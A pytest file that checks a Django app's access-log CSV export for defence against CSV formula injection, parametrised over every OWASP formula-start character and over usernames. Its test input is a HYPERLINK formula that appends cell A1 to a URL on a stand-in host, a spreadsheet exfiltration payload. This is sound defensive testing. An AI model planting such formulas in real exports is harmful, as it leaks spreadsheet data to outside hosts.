"""CSV injection in the access log export: every character OWASP lists as starting a spreadsheet formula
(= + - @ tab carriage return), at the start of a username or a reason, reaches the file inert and otherwise whole.
tests/core/test_jobs.py checks "=" end to end; these pin the rest of the list."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from peerway.accounts.models import User
from peerway.core.models import AccessAction, AccessEvent
from peerway.core.services import access_event_csv_row

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _written(row: list[str]) -> list[str]:
    # Through the csv module as the export writes it, and back: what a spreadsheet is given.
    out = io.StringIO()
    csv.writer(out).writerow(row)
    [read] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    return read


def _event(*, username: str = "sample", reason: str = "record page") -> AccessEvent:
    return AccessEvent(
        actor=User(username=username),
        actor_role="peer",
        subject_type="participant",
        subject_id=uuid.uuid4(),
        action=AccessAction.VIEWED,
        reason=reason,
    )


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_reason_starting_like_a_formula_is_written_inert(start: str) -> None:
    reason = f'{start}HYPERLINK("https://sample.example/?x="&A1,"Sample")'
    cell = _written(access_event_csv_row(_event(reason=reason)))[6]
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.endswith(reason)


# Django's username validator allows @ . + - _ besides letters and digits: three of them start a formula.
@pytest.mark.parametrize("username", ["@sample", "+16125550101", "-sample"])
def test_a_username_starting_like_a_formula_is_written_inert(username: str) -> None:
    cell = _written(access_event_csv_row(_event(username=username)))[1]
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.endswith(username)
